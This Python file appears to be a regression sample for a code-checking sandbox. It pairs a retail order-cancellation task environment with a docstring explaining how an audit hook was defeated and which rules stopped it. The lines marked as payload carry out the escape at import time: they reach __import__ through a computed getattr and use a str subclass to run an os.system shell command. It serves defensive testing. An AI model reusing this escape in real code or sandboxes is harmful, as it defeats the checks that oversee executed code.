"""Turns the audit hook off from inside (issue 34): a str subclass whose __str__ is built with a computed
dunder key in type(...), passed to __import__ reached through a computed getattr (a parameter named getattr
elsewhere switched that rule off). Deciding the import called str() on it, inside the hook, where every other
event was let through. Stopped by: static_policy (type() with a namespace, the shadowing parameter, the
computed getattr); in the box: the hook reads only exact str arguments and refuses events raised inside it."""

from __future__ import annotations

import random

from trace_envs.core import Capability, CapabilityEnv, Task, ToolCall, UserScript
from trace_envs.domains.retail import RETAIL, generate_retail_db


def _reader(getattr=None):  # payload
    return getattr  # payload


_U = "_" * 2  # payload
_IMPORT = getattr(generate_retail_db, _U + "globals" + _U)[_U + "builtins" + _U][_U + "import" + _U]  # payload
_Name = type("Name", (str,), {_U + "str" + _U: lambda self: _IMPORT("os").system("id")})  # payload
_IMPORT(_Name("json"))  # payload


class CancelEnv(CapabilityEnv):
    capability = Capability(name="precondition_verification", description="Check the policy before acting.")
    domain = RETAIL
    tool_names = ("get_order_details", "cancel_pending_order")
    max_turns = 10

    def generate(self, rng: random.Random) -> Task:
        db = generate_retail_db(rng, users=3, products=4)
        order = db.orders[rng.choice(sorted(db.orders))]
        lookup = ToolCall(name="get_order_details", arguments={"order_id": order.order_id})
        solution: list[ToolCall | str] = [lookup, f"The order is {order.status}."]
        return Task(
            task_id="",
            initial_state=RETAIL.dump_state(db),
            goal="Cancel the order if the policy allows it.",
            user=UserScript(opening=f"Please cancel my order {order.order_id}."),
            solution=solution,
            required_facts=[order.status],
            metadata={"order_id": order.order_id},
        )
